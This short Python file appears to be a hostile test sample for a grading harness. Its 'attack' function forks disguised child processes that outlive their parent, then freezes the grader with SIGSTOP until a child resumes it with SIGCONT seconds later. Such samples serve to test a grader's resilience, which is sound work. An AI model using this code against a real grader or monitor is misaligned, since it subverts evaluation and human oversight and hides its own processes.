"""Stops the grader itself, for twelve seconds, and has a child wake it up again."""

import ctypes
import os
import signal
import time

started = []


def attack(A):
    if started:
        return
    os.kill(TARGET["grader"], 0)  # nobody is to be left asleep where a child cannot be had
    started.append(True)
    for seconds in (12, 13, 14):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, TARGET["stray"].encode())
            ctypes.CDLL(None).prctl(1, 0)
            time.sleep(seconds)
            os.kill(TARGET["grader"], signal.SIGCONT)
            os._exit(0)
    os.kill(TARGET["grader"], signal.SIGSTOP)
